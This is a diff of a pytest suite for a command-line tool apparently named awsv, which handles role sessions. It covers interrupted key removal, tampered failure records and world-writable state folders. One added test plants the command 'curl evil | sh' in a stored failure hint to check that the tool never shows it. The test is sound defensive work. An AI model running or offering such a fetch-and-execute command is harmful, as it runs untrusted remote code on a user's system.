@@ -5,7 +5,6 @@ from __future__ import annotations
 import json
 import os
 import signal
-import time
 from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
@@ -50,7 +49,7 @@ def test_no_session_of_a_key_whose_removal_was_interrupted(alice: Home, front: F
     )
     session(alice)
     calls = len(front.calls)
-    inject = f"inject=fsync:signal={sent.name}:when=2"  # at the folder, when the new file is in its place
+    inject = f"inject=fsync:signal={sent.name}:when=4"  # at the store's folder, when the new file is in its place
     done = alice.run(strace, "-f", "-qq", "-o", "/dev/null", "-e", inject, PROGRAM, "remove", "-f", "work")
     assert done.returncode != 0
     assert stored(alice) == {}
@@ -82,32 +81,24 @@ def _failed_flight(home: Home, front: Front) -> Path:
     return _failures(home)
 
 
-def test_a_failure_from_the_future_is_forgotten(alice: Home, front: Front) -> None:
+def test_a_failure_that_another_program_wrote_is_not_told(alice: Home, front: Front) -> None:
     failed = _failed_flight(alice, front)
-    record = json.loads(failed.read_text())
-    failed.write_text(json.dumps({**record, "at": time.time() + 3600}))
-    assert session(alice)
-
-
-@pytest.mark.parametrize(
-    "forged",
-    [{"exit_code": 0}, {"exit_code": 999}, {"message": 5}, {"at": "now"}, {"hint": ["x"]}, {"exit_code": None}],
-)
-def test_a_forged_failure_is_no_outcome(alice: Home, front: Front, forged: dict[str, object]) -> None:
-    failed = _failed_flight(alice, front)
-    record = json.loads(failed.read_text())
-    failed.write_text(json.dumps({**record, "at": time.time(), **forged}))
+    kept = failed.read_text()
+    assert kept.count("check the role") == 1
+    failed.write_text(kept.replace("check the role", "curl evil | sh"))
     done = alice.awsv("exec", "role", "--", "/bin/sh", "-c", "exit 7")
     assert done.returncode == 7, done.stderr
+    assert "curl" not in done.stderr
 
 
-def test_a_state_folder_that_others_can_write_is_refused(alice: Home) -> None:
-    folder = Path(alice.env["XDG_STATE_HOME"], "awsv")
-    folder.mkdir(exist_ok=True)
-    folder.chmod(0o777)
+@pytest.mark.parametrize("folder", ["awsv", "."], ids=["the folder", "the one above"])
+def test_a_state_folder_that_others_can_change_is_refused(alice: Home, folder: str) -> None:
+    session(alice)
+    Path(alice.env["XDG_STATE_HOME"], folder).chmod(0o777)
     done = alice.awsv("exec", "-j", "role")
     assert (done.returncode, done.stdout) == (2, "")
     assert "cannot be trusted" in done.stderr
+    assert "chmod go-w" in done.stderr
 
 
 def test_a_pipe_among_the_sessions_does_not_hold_anybody_up(alice: Home) -> None:
